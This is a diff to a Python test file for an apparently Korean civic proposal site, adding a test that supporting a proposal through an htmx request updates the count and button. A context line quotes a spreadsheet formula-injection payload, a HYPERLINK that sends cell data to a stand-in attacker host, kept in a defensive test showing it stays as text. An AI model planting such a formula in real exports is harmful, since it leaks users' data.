@@ -103,3 +103,16 @@ def test_a_formula_in_a_title_stays_text_in_the_public_spreadsheet(baro: Baro):
     title = sheet.worksheets[0].cell(row=2, column=3)
 
     assert (title.value, title.data_type) == ('\'=HYPERLINK("http://evil.example/?x="&A1,"x")', "s")
+
+
+def test_supporting_in_place_answers_with_the_page_at_once(baro: Baro):
+    proposal = baro.propose("도서관 야간 개관", "밤에도 열어 주세요.")
+    supporter = people(1, "inplace")[0]
+
+    response = client_for(supporter.user).post(f"/gwangju/proposals/{proposal.pk}/support/do/", HTTP_HX_REQUEST="true")
+
+    html = response.content.decode()
+    assert response.status_code == 200
+    assert '<strong id="support-count">1</strong>' in html
+    assert "공감했습니다" in html
+    assert 'id="support-button">공감 취소</button>' in html
